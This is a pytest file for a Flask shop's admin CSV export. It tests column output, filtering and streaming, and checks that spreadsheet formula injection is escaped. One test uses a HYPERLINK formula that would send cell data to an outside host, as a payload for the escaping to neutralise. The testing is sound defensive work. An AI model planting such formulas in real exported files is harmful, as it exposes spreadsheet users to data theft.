from __future__ import annotations

import csv
import io

import pytest
from flask import Flask
from flask.testing import FlaskClient

from shop.extensions import db
from shop.models import Category, Product, Synonym, Variant
from shop.web.admin import RESOURCES
from shop.web.admin.sheet import harmless
from tests.support.dealings import trade
from tests.support.forms import fill, parsed
from tests.support.people import owner


@pytest.fixture
def keeper(app: Flask) -> FlaskClient:
    trade(app)
    return owner(app)


def exported(keeper: FlaskClient, address: str) -> list[dict[str, str]]:
    answer = keeper.get(address)
    assert (answer.status_code, answer.mimetype) == (200, "text/csv")
    return list(csv.DictReader(io.StringIO(answer.data.decode("utf-8-sig"))))


def test_every_list_can_be_exported_from_its_page(keeper: FlaskClient) -> None:
    fill(keeper, "/admin/products/1", {"price": "12"})
    for resource in RESOURCES:
        page = parsed(keeper.get(f"/admin/{resource.name}"))
        link = next(a for a in page.select("main a") if a.get_text(strip=True) == "Export")
        rows = exported(keeper, str(link["href"]))
        assert len(rows) == len(page.select("tbody tr")), resource.name
        assert list(rows[0]) == [column.title for column in (*resource.columns, *resource.sheet)]
        assert f"{resource.name}-" in keeper.get(str(link["href"])).headers["Content-Disposition"]


def test_an_order_is_exported_as_a_spreadsheet_needs_it(keeper: FlaskClient) -> None:
    [row] = exported(keeper, "/admin/orders/export.csv")
    assert {"Number": "1234-5678", "Total": "26.90", "Goods": "22.00", "Shipping": "4.90", "Pieces": "2",
            "Email": "shopper@example.com", "Postcode": "AB1", "Lines": "2 × TOOL-2"}.items() <= row.items()


@pytest.mark.parametrize(("query", "names"), [
    ("", ["Tool 1", "Tool 2", "Tool 3"]), ("sort=-price", ["Tool 3", "Tool 2", "Tool 1"]), ("q=tool-2", ["Tool 2"]),
    ("view=sold-out", ["Tool 1"]), ("view=low&sort=-name", ["Tool 3", "Tool 2"]),
])
def test_the_lists_own_filter_and_order_apply(keeper: FlaskClient, query: str, names: list[str]) -> None:
    assert [row["Name"] for row in exported(keeper, f"/admin/products/export.csv?{query}")] == names
    link = next(a for a in parsed(keeper.get(f"/admin/products?{query}")).select("main a")
                if a.get_text(strip=True) == "Export")
    assert [row["Name"] for row in exported(keeper, str(link["href"]))] == names


@pytest.mark.parametrize(("cell", "kept"), [
    ("=1+1", "'=1+1"), ("+44 20", "'+44 20"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
    ("  =1", "'  =1"), ("\r=1", "'\r=1"), ("a=1", "a=1"), ("", ""), ("12.50", "12.50"), ("'=1", "'=1"),
])
def test_no_cell_is_a_formula(app: Flask, cell: str, kept: str) -> None:
    assert harmless(cell) == kept


def test_a_formula_in_the_shop_stays_text_in_the_file(app: Flask, keeper: FlaskClient) -> None:
    formula = '=HYPERLINK("https://example.com/?"&A1,"a")'
    with app.app_context():
        db.session.get_one(Product, 1).name = formula
        db.session.add(Synonym(word="@x", means='a,"b"\nc', key=""))
        db.session.commit()
    assert formula not in [row["Name"] for row in exported(keeper, "/admin/products/export.csv")]
    assert f"'{formula}" in [row["Name"] for row in exported(keeper, "/admin/products/export.csv")]
    row = exported(keeper, "/admin/synonyms/export.csv")[0]
    assert (row["The shopper says"], row["The shop calls it"]) == ("'@x", 'a,"b"\nc')


def test_a_long_list_is_sent_in_pieces(app: Flask, keeper: FlaskClient) -> None:
    with app.app_context():
        tools = db.session.get_one(Category, 1)
        db.session.add_all(
            Product(slug=f"more-{number}", name=f"More {number}", price=1, category=tools,
                    variants=[Variant(sku=f"MORE-{number}", stock=1)]) for number in range(1200))
        db.session.commit()
    answer = keeper.get("/admin/products/export.csv?q=more", buffered=False)
    assert answer.is_streamed
    pieces = list(answer.iter_encoded())
    assert len(pieces) == 4
    assert b"".join(pieces).count(b"\r\n") == 1201
